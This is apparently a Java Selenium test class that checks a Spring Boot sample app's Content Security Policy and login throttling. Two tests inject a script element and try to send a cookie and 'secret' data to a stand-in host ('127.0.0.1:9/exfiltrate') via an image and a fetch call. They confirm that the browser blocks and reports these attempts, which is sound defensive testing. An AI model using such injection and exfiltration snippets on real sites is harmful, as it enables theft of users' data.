package dev.imgwire.sample;

import java.util.List;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;

import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.server.LocalServerPort;

import dev.imgwire.samples.support.test.BrowserTestSupport;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The security of the pages as a real browser meets it.
 *
 * @author Imgwire
 */
// The same settings as BrowserUploadFlowTests, so the two share one application context.
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT,
		properties = { "sample.emulator.processing-delay=300ms", "sample.security.password=browser-test-password" })
class BrowserSecurityTests extends BrowserTestSupport {

	@LocalServerPort
	private int port;

	@BeforeEach
	void startLoggedOut() {
		driver.get(url("/login"));
		driver.manage().deleteAllCookies();
		cspViolations.takeAll();
	}

	@Nested
	class Policy {

		@Test
		void scriptInjectedIntoThePageDoesNotRunAndTheBrowserReportsIt() {
			logIn();

			Object ran = driver.executeAsyncScript("""
					const done = arguments[arguments.length - 1];
					const script = document.createElement('script');
					script.textContent = 'window.injectedScriptRan = true;';
					document.head.append(script);
					setTimeout(() => done(window.injectedScriptRan === true), 500);
					""");

			assertThat(ran).isEqualTo(false);
			assertThat(cspViolations.takeAll()).anySatisfy((violation) -> assertThat(violation).contains("script-src"));
		}

		@Test
		void pageCannotLoadImagesFromOrSendDataToAnyOtherOrigin() {
			logIn();

			Object connected = driver.executeAsyncScript("""
					const done = arguments[arguments.length - 1];
					new Image().src = 'http://127.0.0.1:9/exfiltrate.png?cookie=1';
					fetch('http://127.0.0.1:9/exfiltrate', { method: 'POST', body: 'secret' })
						.then(() => done(true), () => setTimeout(() => done(false), 500));
					""");

			assertThat(connected).isEqualTo(false);
			List<String> violations = cspViolations.takeAll();
			assertThat(violations).anySatisfy((violation) -> assertThat(violation).contains("img-src"));
			assertThat(violations).anySatisfy((violation) -> assertThat(violation).contains("connect-src"));
		}

	}

	@Nested
	class LoginThrottling {

		@Test
		void loginPageSaysWrongPasswordAndThenHowLongAttemptsAreRefused() {
			for (int i = 0; i < 4; i++) {
				assertThat(submitLogin("mallory", "guess-" + i)).isEqualTo("Wrong user name or password.");
			}

			assertThat(submitLogin("mallory", "guess-4"))
				.isEqualTo("Too many failed sign-in attempts. Try again in 5 minutes.");
			assertThat(driver.getCurrentUrl()).endsWith("/login?locked=5");
			assertThat(cspViolations.takeAll()).isEmpty();
		}

		private String submitLogin(String username, String password) {
			driver.get(url("/login"));
			WebElement user = waitFor().until(ExpectedConditions.visibilityOfElementLocated(By.id("username")));
			user.clear();
			user.sendKeys(username);
			driver.findElement(By.id("password")).sendKeys(password);
			WebElement oldPage = driver.findElement(By.id("login-form"));
			driver.findElement(By.id("login-button")).click();
			waitFor().until(ExpectedConditions.stalenessOf(oldPage));
			return waitFor().until(ExpectedConditions.visibilityOfElementLocated(By.id("login-message"))).getText();
		}

	}

	private void logIn() {
		driver.get(url("/"));
		WebElement user = waitFor().until(ExpectedConditions.visibilityOfElementLocated(By.id("username")));
		user.clear();
		user.sendKeys("demo");
		driver.findElement(By.id("password")).sendKeys("browser-test-password");
		driver.findElement(By.id("login-button")).click();
		waitFor().until(ExpectedConditions.presenceOfElementLocated(By.id("page-info")));
		assertThat(cspViolations.takeAll()).as("violations while logging in").isEmpty();
	}

	private String url(String path) {
		return "http://localhost:" + this.port + path;
	}

}
